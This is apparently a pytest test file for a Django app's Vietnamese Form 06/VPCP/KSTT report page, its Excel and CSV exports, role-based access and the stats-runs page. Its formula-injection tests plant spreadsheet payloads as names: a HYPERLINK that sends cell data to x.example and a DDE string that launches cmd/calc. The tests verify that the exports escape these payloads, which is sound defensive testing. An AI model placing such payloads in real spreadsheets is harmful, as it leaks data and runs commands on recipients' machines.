"""The Form 06/VPCP/KSTT page, its Excel and CSV files, and the statistics-runs page.

A small history is built through the services so that every figure of November 2025
(15/10/2025–14/11/2025) is known by hand:

=====  =========  ==========  =======================================================
unit   received   channel     what happens
=====  =========  ==========  =======================================================
QLD    Mon 06/10  in person   due 13/10, resolved 20/10: carried over, resolved late
QLD    Wed 08/10  online      due 15/10, never ends: carried over, overdue at 14/11
QLD    Mon 20/10  online      due 27/10, resolved 23/10: early
QLD    Tue 21/10  postal      due 28/10, refused 28/10: on time
QLD    Mon 10/11  in person   due 17/11, open: within deadline
QLD    Mon 03/11  online      due 10/11, resolved 20/11 (after the period): overdue at 14/11
QLD    Wed 01/10  in person   ended 03/10: before the period, not counted
QLD    Mon 17/11  online      after the period, not counted
A1     Mon 27/10  online      due 03/11, resolved 30/10: early
A1     Mon 27/10  in person   due 03/11, resolved 05/11: late
ATTP   Fri 10/10  in person   due 17/10, resolved 17/10: carried over, on time
ATTP   Wed 12/11  online      due 19/11, open: within deadline
ATTP   Mon 03/11  online      due 10/11, supplement asked 05/11: paused, within deadline
=====  =========  ==========  =======================================================
"""

import csv
import datetime
import io
from decimal import Decimal

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from dossiers import services
from dossiers.choices import Channel, Outcome
from stats import form06 as reports
from stats import rollups
from stats.choices import StatsRunKind, StatsRunStatus
from stats.models import StatsRun
from stats.tasks import compute_stats_range
from tests.factories import FieldFactory, ProcedureFactory, ProcedureVersionFactory, UserFactory
from tests.helpers import local

D = datetime.date
NOW = local(2025, 11, 25, 20)
NOVEMBER = {"period": "month", "year": "2025", "number": "11"}
URL = "/reports/form06/"
RUNS_URL = "/reports/runs/"
pytestmark = pytest.mark.django_db

# Columns: received total, carried over, online, in person + post, resolved total, early, on time, late,
# in progress total, within deadline, overdue; then on-time, progress and online rates.
EXPECTED = {
    "ATTP": (3, 1, 2, 0, 1, 0, 1, 0, 2, 2, 0, "100.00", "100.00", "100.00"),
    "QLD": (6, 2, 2, 2, 3, 1, 1, 1, 3, 1, 2, "66.67", "50.00", "50.00"),
    "QLD_KD": (2, 0, 1, 1, 2, 1, 0, 1, 0, 0, 0, "50.00", "50.00", "50.00"),
}
EXPECTED_TOTALS = (11, 3, 5, 3, 6, 2, 2, 2, 5, 3, 2, "66.67", "63.64", "62.50")
EXPECTED_BY_FIELD = {
    "cap-phep": (9, 3, 4, 2, 4, 1, 2, 1, 5, 3, 2, "75.00", "66.67", "66.67"),
    "kinh-doanh": EXPECTED["QLD_KD"],
}


def build_known_dossiers(*, unit_a, unit_a1, unit_b, officer):
    """The history of the module docstring, with its rollups computed by a recorded backfill run."""
    licensing = FieldFactory(code="cap-phep", name_vi="Cấp phép hoạt động", name_en="Licensing")
    trade = FieldFactory(code="kinh-doanh", name_vi="Kinh doanh dược", name_en="Drug trade")
    procedures = {}
    for code, unit, field in (
        ("1.000001", unit_a, licensing),
        ("1.000002", unit_a1, trade),
        ("1.000003", unit_b, licensing),
    ):
        procedures[unit.code] = ProcedureVersionFactory(
            procedure=ProcedureFactory(code=code, unit=unit, field=field, name_vi=f"Thủ tục {code}"), processing_days=5
        ).procedure
    applicant = services.Applicant(name="Nguyễn Văn An")

    def receive(unit, day, channel):
        return services.dossier_receive(
            procedure=procedures[unit.code], channel=channel, applicant=applicant, received_at=day, by=officer
        )

    def end(dossier, at, outcome=Outcome.RESOLVED):
        note = "Thiếu giấy chứng nhận" if outcome == Outcome.REFUSED else ""
        return services.dossier_end(dossier=dossier, by=officer, outcome=outcome, note=note, at=at)

    with time_machine.travel(NOW, tick=False):
        made = {}
        made["a_late"] = receive(unit_a, local(2025, 10, 6), Channel.IN_PERSON)
        made["a_overdue"] = receive(unit_a, local(2025, 10, 8), Channel.ONLINE)
        made["a_early"] = receive(unit_a, local(2025, 10, 20, 9), Channel.ONLINE)
        made["a_on_time"] = receive(unit_a, local(2025, 10, 21), Channel.POSTAL)
        made["a_within"] = receive(unit_a, local(2025, 11, 10), Channel.IN_PERSON)
        made["a_ended_after"] = receive(unit_a, local(2025, 11, 3), Channel.ONLINE)
        made["a_before"] = receive(unit_a, local(2025, 10, 1), Channel.IN_PERSON)
        made["a_after"] = receive(unit_a, local(2025, 11, 17), Channel.ONLINE)
        made["a1_early"] = receive(unit_a1, local(2025, 10, 27), Channel.ONLINE)
        made["a1_late"] = receive(unit_a1, local(2025, 10, 27), Channel.IN_PERSON)
        made["b_on_time"] = receive(unit_b, local(2025, 10, 10), Channel.IN_PERSON)
        made["b_within"] = receive(unit_b, local(2025, 11, 12), Channel.ONLINE)
        made["b_paused"] = receive(unit_b, local(2025, 11, 3), Channel.ONLINE)
        made["a_before"] = end(made["a_before"], local(2025, 10, 3))
        made["a_on_time"] = end(made["a_on_time"], local(2025, 10, 28, 14), Outcome.REFUSED)
        made["a_late"] = end(made["a_late"], local(2025, 10, 20))
        made["a_early"] = end(made["a_early"], local(2025, 10, 23))
        made["a_ended_after"] = end(made["a_ended_after"], local(2025, 11, 20))
        made["a1_early"] = end(made["a1_early"], local(2025, 10, 30))
        made["a1_late"] = end(made["a1_late"], local(2025, 11, 5))
        made["b_on_time"] = end(made["b_on_time"], local(2025, 10, 17))
        made["b_paused"] = services.dossier_request_supplement(
            dossier=made["b_paused"], by=officer, note="Bổ sung bản sao giấy phép", at=local(2025, 11, 5)
        )
        rollups.stats_backfill(date_from=D(2025, 10, 1), date_to=D(2025, 11, 24))
    return made


@pytest.fixture
def known(unit_a, unit_a1, unit_b, officer_a):
    return build_known_dossiers(unit_a=unit_a, unit_a1=unit_a1, unit_b=unit_b, officer=officer_a)


@pytest.fixture(autouse=True)
def _today():
    """Every request is made on 25 November 2025, after the history above."""
    with time_machine.travel(NOW, tick=False):
        yield


def numbers(cells):
    """A line's cells as in ``EXPECTED``: counts as ints, rates as two-decimal strings."""
    return tuple(str(value) if column.is_rate else value for column, value in cells)


def page(client, user, language="vi", **query):
    client.force_login(user)
    client.cookies["django_language"] = language  # pages follow the switcher, not the browser
    return client.get(URL, query)


def table(response):
    return {line["row"].code: numbers(line["cells"]) for line in response.context["lines"]}


def test_the_appointment_dates_are_those_of_the_table(known):
    assert {name: dossier.appointment_date for name, dossier in known.items() if name.startswith("a_")} == {
        "a_late": D(2025, 10, 13),
        "a_overdue": D(2025, 10, 15),
        "a_early": D(2025, 10, 27),
        "a_on_time": D(2025, 10, 28),
        "a_within": D(2025, 11, 17),
        "a_ended_after": D(2025, 11, 10),
        "a_before": D(2025, 10, 8),
        "a_after": D(2025, 11, 24),
    }
    assert [known[name].timeliness for name in ("a_late", "a_early", "a_on_time", "a1_late", "b_on_time")] == [
        "late",
        "early",
        "on_time",
        "late",
        "on_time",
    ]


class TestForm06Page:
    def test_ministry_office_sees_every_unit_and_the_totals(self, client, known, office_staff):
        response = page(client, office_staff, **NOVEMBER)
        assert response.status_code == 200
        assert table(response) == EXPECTED
        assert [line["row"].code for line in response.context["lines"]] == ["ATTP", "QLD", "QLD_KD"]
        assert numbers(response.context["total_cells"]) == EXPECTED_TOTALS
        assert response.context["period_text"] == "Tháng 11 năm 2025 (từ ngày 15/10/2025 đến ngày 14/11/2025)"

    def test_the_table_has_the_official_grouped_header_and_the_totals_row(self, client, known, office_staff):
        html = page(client, office_staff, **NOVEMBER).content.decode()
        assert '<th scope="col" rowspan="4">STT</th>' in html
        assert '<th scope="col" rowspan="4">Đơn vị</th>' in html
        assert '<th scope="col" colspan="4">Số hồ sơ nhận giải quyết</th>' in html
        assert '<th scope="col" colspan="7">Kết quả giải quyết</th>' in html
        assert '<th scope="col" colspan="3">Trong đó</th>' in html
        assert '<th scope="col" rowspan="2">Số kỳ trước chuyển qua</th>' in html
        assert '<th scope="col" colspan="2">Số mới tiếp nhận</th>' in html
        assert '<th scope="col">Trực tiếp, dịch vụ bưu chính</th>' in html
        assert '<th scope="col" colspan="4">Số hồ sơ đã giải quyết</th>' in html
        assert '<th scope="col" colspan="3">Số hồ sơ đang giải quyết</th>' in html
        assert '<th scope="row">Tổng cộng</th>' in html
        # Rates are shown with the Vietnamese decimal comma.
        assert ">66,67<" in html and ">63,64<" in html and ">62,50<" in html

    def test_grouped_by_field(self, client, known, office_staff):
        response = page(client, office_staff, **NOVEMBER, group_by="field")
        assert table(response) == EXPECTED_BY_FIELD
        assert numbers(response.context["total_cells"]) == EXPECTED_TOTALS
        assert '<th scope="col" rowspan="4">Lĩnh vực</th>' in response.content.decode()

    def test_grouped_by_procedure(self, client, known, office_staff):
        response = page(client, office_staff, **NOVEMBER, group_by="procedure")
        assert table(response) == {
            "1.000001": EXPECTED["QLD"],
            "1.000002": EXPECTED["QLD_KD"],
            "1.000003": EXPECTED["ATTP"],
        }

    def test_a_custom_range_equal_to_the_month_gives_the_same_numbers(self, client, known, office_staff):
        response = page(client, office_staff, date_from="2025-10-15", date_to="2025-11-14")
        assert table(response) == EXPECTED
        assert response.context["form"]["period"].value() == "custom"
        assert response.context["period_text"] == "Từ ngày 15/10/2025 đến ngày 14/11/2025"

    def test_a_quarter_and_a_year(self, client, known, office_staff):
        # Q4 2025 runs 15/09–14/12, so it ends after today: refused. Q1 2026 likewise. Year 2025 too.
        response = page(client, office_staff, period="quarter", year="2025", number="4")
        assert response.status_code == 400
        assert "14/12/2025" in response.context["form"].non_field_errors()[0]
        # The six months to 14/06/2025 ended long ago and hold none of these dossiers.
        response = page(client, office_staff, period="half", year="2025", number="1")
        assert response.status_code == 200
        assert response.context["lines"] == []
        assert numbers(response.context["total_cells"])[:11] == (0,) * 11

    def test_the_subtree_of_a_unit(self, client, known, office_staff):
        response = page(client, office_staff, **NOVEMBER, unit="QLD")
        assert table(response) == {"QLD": EXPECTED["QLD"], "QLD_KD": EXPECTED["QLD_KD"]}
        assert numbers(response.context["total_cells"])[:11] == (8, 2, 3, 3, 5, 2, 1, 2, 3, 1, 2)

    def test_without_a_query_the_latest_ended_month_is_shown(self, client, known, office_staff):
        response = page(client, office_staff)
        assert response.status_code == 200
        assert table(response) == EXPECTED
        assert 'href="?period=month&amp;year=2025&amp;number=11&amp;group_by=unit&amp;export=xlsx"' in (
            response.content.decode()
        )

    def test_days_not_yet_computed_are_announced(self, client, known, office_staff):
        response = page(client, office_staff, date_from="2025-11-01", date_to="2025-11-25")
        assert response.context["incomplete"] is True
        assert response.context["computed_through"] == D(2025, 11, 24)
        assert page(client, office_staff, **NOVEMBER).context["incomplete"] is False


class TestForm06Access:
    def test_the_head_of_a_sees_a_and_its_sub_unit_only(self, client, known, head_a):
        response = page(client, head_a, **NOVEMBER)
        assert table(response) == {"QLD": EXPECTED["QLD"], "QLD_KD": EXPECTED["QLD_KD"]}
        assert numbers(response.context["total_cells"])[:11] == (8, 2, 3, 3, 5, 2, 1, 2, 3, 1, 2)

    def test_an_officer_of_a_sees_a_only_even_when_asking_for_its_subtree(self, client, known, officer_a):
        assert table(page(client, officer_a, **NOVEMBER)) == {"QLD": EXPECTED["QLD"]}
        assert table(page(client, officer_a, **NOVEMBER, unit="QLD")) == {"QLD": EXPECTED["QLD"]}

    def test_an_officer_of_b_sees_b_only(self, client, known, officer_b):
        assert table(page(client, officer_b, **NOVEMBER)) == {"ATTP": EXPECTED["ATTP"]}

    def test_the_auditor_sees_everything(self, client, known, auditor):
        assert table(page(client, auditor, **NOVEMBER)) == EXPECTED

    def test_the_head_of_a_asking_for_unit_b_is_refused(self, client, known, head_a):
        assert page(client, head_a, **NOVEMBER, unit="ATTP").status_code == 403
        assert page(client, head_a, **NOVEMBER, unit="ATTP", export="xlsx").status_code == 403

    def test_the_select_lists_only_the_units_one_may_read(self, client, known, head_a):
        html = page(client, head_a, **NOVEMBER).content.decode()
        assert '<option value="QLD">' in html and '<option value="QLD_KD">' in html
        assert 'value="ATTP"' not in html

    def test_a_user_without_a_role_is_refused_and_a_visitor_sent_to_log_in(self, client, known):
        assert page(client, UserFactory(username="nobody"), **NOVEMBER).status_code == 403
        client.logout()
        response = client.get(URL)
        assert (response.status_code, response["Location"]) == (302, f"/accounts/login/?next={URL}")

    def test_the_nav_links_to_reports_for_readers_only(self, client, known, officer_a):
        client.force_login(officer_a)
        assert 'href="/reports/form06/"' in client.get("/").content.decode()
        client.force_login(UserFactory(username="nobody"))
        assert 'href="/reports/form06/"' not in client.get("/").content.decode()


class TestBadInput:
    @pytest.mark.parametrize(
        ("query", "field", "fragment"),
        [
            ({"date_from": "2025-11-14", "date_to": "2025-10-15"}, "date_to", "before the start"),
            ({"date_from": "2025-13-01", "date_to": "2025-11-14"}, "date_from", ""),
            ({"date_from": "15/10/2025x", "date_to": "2025-11-14"}, "date_from", ""),
            ({"date_from": "2025-11-01", "date_to": "2025-11-26"}, "date_to", "26/11/2025"),
            ({"date_from": "2020-11-14", "date_to": "2025-11-14"}, "date_to", "5"),
            ({"date_from": "1999-12-01", "date_to": "2000-01-14"}, "date_from", "01/01/2000"),
            ({"period": "custom", "date_from": "2025-10-15"}, "date_to", "custom range"),
            ({**NOVEMBER, "group_by": "province"}, "group_by", "province"),
            ({**NOVEMBER, "unit": "XYZ"}, "unit", "XYZ"),
            ({**NOVEMBER, "period": "week"}, "period", "week"),
            ({**NOVEMBER, "number": "13"}, "number", "12"),
            ({**NOVEMBER, "number": "0"}, "number", "12"),
            ({"period": "quarter", "year": "2025", "number": "5"}, "number", "4"),
            ({"period": "month", "number": "11"}, "year", ""),
            ({"period": "month", "year": "twenty", "number": "11"}, "year", ""),
            ({"period": "month", "year": "99999", "number": "11"}, "year", "9999"),
            ({**NOVEMBER, "export": "pdf"}, "export", "pdf"),
            ({"group_by": "unit"}, "period", ""),
        ],
    )
    def test_is_a_form_error_never_a_500(self, client, known, office_staff, query, field, fragment):
        response = page(client, office_staff, language="en", **query)
        assert response.status_code == 400
        errors = response.context["form"].errors
        assert field in errors, errors
        assert fragment in " ".join(errors[field])
        assert response.context.get("lines") is None
        # The message reaches the page.
        assert errors[field][0].replace("'", "&#x27;").replace('"', "&quot;") in response.content.decode()

    def test_a_preset_period_that_has_not_ended_is_a_message_above_the_form(self, client, known, office_staff):
        response = page(client, office_staff, language="en", period="month", year="2025", number="12")
        assert response.status_code == 400
        assert response.context["form"].non_field_errors() == [
            "14/12/2025 lies in the future: a report can end today (25/11/2025) at the latest."
        ]

    def test_a_year_ignores_the_number_box(self, client, known, office_staff):
        with time_machine.travel(local(2026, 1, 5), tick=False):
            response = page(client, office_staff, period="year", year="2025", number="7")
        assert response.status_code == 200
        assert response.context["period_text"] == "Năm 2025 (từ ngày 15/12/2024 đến ngày 14/12/2025)"


class TestQueries:
    def test_the_page_costs_the_same_whatever_the_number_of_groups(self, client, known, office_staff, officer_a):
        client.force_login(office_staff)
        query = {**NOVEMBER, "group_by": "procedure"}
        with CaptureQueriesContext(connection) as few:
            assert len(client.get(URL, query).context["lines"]) == 3
        # Ten more procedures, each with a dossier in the period.
        for number in range(10):
            procedure = ProcedureVersionFactory(procedure=ProcedureFactory(unit=known["a_late"].unit)).procedure
            services.dossier_receive(
                procedure=procedure,
                channel=Channel.ONLINE,
                applicant=services.Applicant(name=f"Người nộp {number}"),
                received_at=local(2025, 11, 3),
                by=officer_a,
            )
        rollups.rollup_days(D(2025, 11, 3), D(2025, 11, 24))
        with CaptureQueriesContext(connection) as many:
            assert len(client.get(URL, query).context["lines"]) == 13
        assert len(many.captured_queries) == len(few.captured_queries)

    def test_the_page_stays_within_its_query_budget(self, client, known, office_staff, django_assert_max_num_queries):
        client.force_login(office_staff)
        # Session, user, roles, the user's units, the chosen unit, four for form06, the last computed day.
        with django_assert_max_num_queries(10):
            assert client.get(URL, {**NOVEMBER, "unit": "QLD"}).status_code == 200


class TestExcel:
    def workbook(self, client, user, **query):
        response = page(client, user, **query, export="xlsx")
        assert response.status_code == 200
        assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        return response, load_workbook(io.BytesIO(response.content)).active

    def test_title_rows_and_file_name(self, client, known, office_staff):
        response, sheet = self.workbook(client, office_staff, **NOVEMBER)
        assert response["Content-Disposition"] == (
            'attachment; filename="mau-06-VPCP-KSTT_unit_2025-10-15_2025-11-14.xlsx"'
        )
        assert sheet["A1"].value == "BỘ Y TẾ"
        assert sheet["M1"].value == "Biểu mẫu 06/VPCP/KSTT"
        assert sheet["A3"].value == "TÌNH HÌNH, KẾT QUẢ GIẢI QUYẾT THỦ TỤC HÀNH CHÍNH"
        assert sheet["A4"].value == "Kỳ báo cáo: Tháng 11 năm 2025 (từ ngày 15/10/2025 đến ngày 14/11/2025)"

    def test_the_header_is_merged_like_the_paper_form(self, client, known, office_staff):
        _response, sheet = self.workbook(client, office_staff, **NOVEMBER)
        merged = {str(cell_range) for cell_range in sheet.merged_cells.ranges}
        assert {
            "A7:A10",
            "B7:B10",
            "C7:F7",
            "G7:M7",
            "N7:P7",
            "C8:C10",
            "D8:F8",
            "G8:J8",
            "K8:M8",
            "N8:N10",
            "D9:D10",
            "E9:F9",
            "G9:G10",
            "J9:J10",
            "M9:M10",
        } <= merged
        headings = {
            "A7": "STT",
            "B7": "Đơn vị",
            "C7": "Số hồ sơ nhận giải quyết",
            "G7": "Kết quả giải quyết",
            "C8": "Tổng số",
            "D8": "Trong đó",
            "G8": "Số hồ sơ đã giải quyết",
            "K8": "Số hồ sơ đang giải quyết",
            "D9": "Số kỳ trước chuyển qua",
            "E9": "Số mới tiếp nhận",
            "E10": "Trực tuyến",
            "F10": "Trực tiếp, dịch vụ bưu chính",
            "H9": "Trước hạn",
            "I9": "Đúng hạn",
            "J9": "Quá hạn",
            "L9": "Trong hạn",
            "M9": "Quá hạn",
        }
        assert {cell: sheet[cell].value for cell in headings} == headings
        assert [sheet.cell(row=11, column=column).value for column in (1, 2, 3, 16)] == ["(1)", "(2)", "(3)", "(16)"]
        assert sheet.freeze_panes == "C12"
        assert sheet["C7"].border.left.style == "thin"

    def test_numbers_land_in_their_cells_and_the_totals_row_follows(self, client, known, office_staff):
        _response, sheet = self.workbook(client, office_staff, **NOVEMBER)

        def line(row):
            values = [sheet.cell(row=row, column=column).value for column in range(3, 17)]
            return tuple(
                f"{value:.2f}" if column >= 14 else value for column, value in zip(range(3, 17), values, strict=True)
            )

        assert [sheet.cell(row=row, column=1).value for row in (12, 13, 14)] == [1, 2, 3]
        assert [sheet.cell(row=row, column=2).value for row in (12, 13, 14)] == [
            "ATTP – Cục An toàn thực phẩm",
            "QLD – Cục Quản lý Dược",
            "QLD_KD – Phòng Quản lý kinh doanh dược",
        ]
        assert {code: line(row) for code, row in (("ATTP", 12), ("QLD", 13), ("QLD_KD", 14))} == EXPECTED
        assert sheet["B15"].value == "Tổng cộng"
        assert line(15) == EXPECTED_TOTALS
        assert sheet["B15"].font.bold is True
        assert (sheet["C13"].number_format, sheet["N13"].number_format) == ("#,##0", "0.00")

    def test_names_stay_vietnamese_in_an_english_interface(self, client, known, office_staff):
        client.force_login(office_staff)
        client.cookies["django_language"] = "en"
        response = client.get(URL, {**NOVEMBER, "export": "xlsx"})
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert sheet["B13"].value == "QLD – Cục Quản lý Dược"

    def test_a_head_s_file_says_which_units_it_covers(self, client, known, head_a):
        _response, sheet = self.workbook(client, head_a, **NOVEMBER)
        assert sheet["A2"].value == "Đơn vị: QLD, QLD_KD"
        assert sheet["B14"].value == "Tổng cộng"

    def test_empty_rates_are_empty_cells(self, client, known, office_staff):
        _response, sheet = self.workbook(client, office_staff, period="half", year="2025", number="1")
        assert sheet["B12"].value == "Tổng cộng"
        assert [sheet.cell(row=12, column=column).value for column in (3, 14, 15, 16)] == [0, None, None, None]


class TestCsv:
    def test_bom_header_rows_and_totals(self, client, known, office_staff):
        response = page(client, office_staff, **NOVEMBER, export="csv", group_by="field")
        assert response.status_code == 200
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"] == (
            'attachment; filename="mau-06-VPCP-KSTT_field_2025-10-15_2025-11-14.csv"'
        )
        assert response.content.startswith(b"\xef\xbb\xbf")
        lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert lines[0] == [
            "STT",
            "Mã",
            "Lĩnh vực",
            "Số hồ sơ nhận giải quyết - Tổng số",
            "Số hồ sơ nhận giải quyết - Số kỳ trước chuyển qua",
            "Số hồ sơ nhận giải quyết - Số mới tiếp nhận trực tuyến",
            "Số hồ sơ nhận giải quyết - Số mới tiếp nhận trực tiếp, dịch vụ bưu chính",
            "Số hồ sơ đã giải quyết - Tổng số",
            "Số hồ sơ đã giải quyết - Trước hạn",
            "Số hồ sơ đã giải quyết - Đúng hạn",
            "Số hồ sơ đã giải quyết - Quá hạn",
            "Số hồ sơ đang giải quyết - Tổng số",
            "Số hồ sơ đang giải quyết - Trong hạn",
            "Số hồ sơ đang giải quyết - Quá hạn",
            "Tỷ lệ giải quyết đúng hạn (%)",
            "Tỷ lệ tiến độ giải quyết (%)",
            "Tỷ lệ tiếp nhận trực tuyến (%)",
        ]
        assert lines[1] == ["1", "cap-phep", "Cấp phép hoạt động", *map(str, EXPECTED_BY_FIELD["cap-phep"])]
        assert lines[2] == ["2", "kinh-doanh", "Kinh doanh dược", *map(str, EXPECTED_BY_FIELD["kinh-doanh"])]
        assert lines[3] == ["", "", "Tổng cộng", *map(str, EXPECTED_TOTALS)]
        assert len(lines) == 4

    def test_a_rate_with_nothing_to_divide_is_empty(self):
        from stats.selectors import Form06Row

        content = reports.form06_csv([], Form06Row(carried_over=2, open_within_deadline=2), group_by="unit")
        totals = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))[1]
        assert totals == ["", "", "Tổng cộng", "2", "2", "0", "0", "0", "0", "0", "0", "2", "2", "0", "", "100.00", ""]


def test_the_three_layouts_share_one_column_set():
    assert len(reports.flat_headings("unit")) == reports.COLUMN_COUNT + 1  # plus the code column
    covered = set()
    for cell in reports.header_cells("unit"):
        for row in range(cell.row, cell.row + cell.rowspan):
            for column in range(cell.column, cell.column + cell.colspan):
                assert (row, column) not in covered
                covered.add((row, column))
    assert covered == {(row, column) for row in range(1, 5) for column in range(1, reports.COLUMN_COUNT + 1)}
    assert Decimal("66.67") == reports.cells(reports.Form06Row(resolved_early=2, resolved_late=1))[11][1]


class TestRunsPage:
    def test_ministry_office_sees_the_runs(self, client, known, office_staff):
        client.force_login(office_staff)
        response = client.get(RUNS_URL)
        assert response.status_code == 200
        [run] = response.context["runs"]
        assert (run.kind, run.status, run.days_computed) == (StatsRunKind.BACKFILL, StatsRunStatus.SUCCEEDED, 55)
        html = response.content.decode()
        assert "01/10/2025 – 24/11/2025" in html
        assert ">55<" in html

    @pytest.mark.parametrize("who", ["officer_a", "head_a", "auditor"])
    def test_others_are_refused(self, client, known, who, request):
        client.force_login(request.getfixturevalue(who))
        assert client.get(RUNS_URL).status_code == 403
        assert client.post(RUNS_URL, {"date_from": "2025-11-01", "date_to": "2025-11-10"}).status_code == 403
        assert StatsRun.objects.count() == 1

    def test_the_button_enqueues_a_recompute_that_records_a_run(
        self, client, known, office_staff, django_capture_on_commit_callbacks
    ):
        client.force_login(office_staff)
        with django_capture_on_commit_callbacks(execute=True) as callbacks:
            response = client.post(RUNS_URL, {"date_from": "2025-11-01", "date_to": "2025-11-10"})
        assert (response.status_code, response["Location"]) == (302, RUNS_URL)
        assert len(callbacks) == 1
        run = StatsRun.objects.order_by("-pk").first()
        assert (run.kind, run.status, run.date_from, run.date_to, run.days_computed) == (
            StatsRunKind.BACKFILL,
            StatsRunStatus.SUCCEEDED,
            D(2025, 11, 1),
            D(2025, 11, 10),
            10,
        )
        assert "01/11/2025" in client.get(RUNS_URL).content.decode()

    @pytest.mark.parametrize(
        ("data", "field"),
        [
            ({"date_from": "2025-11-10", "date_to": "2025-11-01"}, "date_to"),
            ({"date_from": "2025-11-01", "date_to": "2025-12-01"}, "date_to"),
            ({"date_from": "2025-11-31", "date_to": "2025-12-01"}, "date_from"),
            ({"date_from": "2019-11-01", "date_to": "2025-11-01"}, "date_to"),
            ({"date_to": "2025-11-01"}, "date_from"),
        ],
    )
    def test_bad_ranges_are_refused_and_nothing_is_enqueued(
        self, client, known, office_staff, data, field, django_capture_on_commit_callbacks
    ):
        client.force_login(office_staff)
        with django_capture_on_commit_callbacks(execute=True) as callbacks:
            response = client.post(RUNS_URL, data)
        assert response.status_code == 400
        assert field in response.context["recompute_form"].errors
        assert callbacks == []
        assert StatsRun.objects.count() == 1


def test_the_range_task_called_directly_records_a_backfill(known):
    result = compute_stats_range("2025-11-01", "2025-11-14")
    run = StatsRun.objects.get(pk=result["run"])
    assert (run.kind, run.status, run.days_computed, result["date_from"], result["date_to"]) == (
        StatsRunKind.BACKFILL,
        StatsRunStatus.SUCCEEDED,
        14,
        "2025-11-01",
        "2025-11-14",
    )


class TestFormulaInjection:
    """Issue 14, item 5: a catalogue name that looks like a formula reaches every file as text."""

    HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"Xem")'

    @pytest.fixture
    def hostile_names(self, known, unit_a):
        from procedures.models import Field, Procedure

        Procedure.objects.filter(unit=unit_a).update(name_vi=self.HOSTILE)
        Field.objects.update(name_vi="@SUM(1+1)")
        unit_a.name_vi = "+cmd|' /C calc'!A0"
        unit_a.save()

    @pytest.mark.parametrize("group_by", ["unit", "field", "procedure"])
    def test_the_csv_escapes_every_text_cell_a_spreadsheet_would_run(
        self, client, hostile_names, office_staff, group_by
    ):
        response = page(client, office_staff, **NOVEMBER, export="csv", group_by=group_by)
        lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        names = [line[2] for line in lines[1:-1]]
        assert names and all(not name.startswith(("=", "+", "-", "@")) for name in names)
        expected = {
            "unit": "'+cmd|' /C calc'!A0",
            "field": "'@SUM(1+1)",
            "procedure": "'" + self.HOSTILE,
        }[group_by]
        assert expected in names

    @pytest.mark.parametrize("group_by", ["unit", "field", "procedure"])
    def test_the_workbook_has_no_formula_and_shows_the_name_as_text(
        self, client, hostile_names, office_staff, group_by
    ):
        response = page(client, office_staff, **NOVEMBER, export="xlsx", group_by=group_by)
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
        hostile = {"unit": "+cmd|", "field": "@SUM(1+1)", "procedure": self.HOSTILE}[group_by]
        named = [cell for cell in cells if isinstance(cell.value, str) and hostile in cell.value]
        assert named and all(cell.data_type == "s" for cell in named)


def test_the_spreadsheet_helpers_escape_text_only():
    from openpyxl import Workbook

    from config.spreadsheets import csv_text, neutralise_workbook

    assert csv_text([["=1+1", "-2", "\tx", "\rx", "@a", "ok", -3, 4.5]]) == "'=1+1,'-2,'\tx,\"'\rx\",'@a,ok,-3,4.5\r\n"
    workbook = Workbook()
    workbook.active.append(["=1+1", "plain", -3])
    neutralise_workbook(workbook)
    first, plain, number = workbook.active[1]
    assert (first.data_type, first.value, first.quotePrefix) == ("s", "=1+1", True)
    assert (plain.quotePrefix, number.data_type, number.value) == (False, "n", -3)
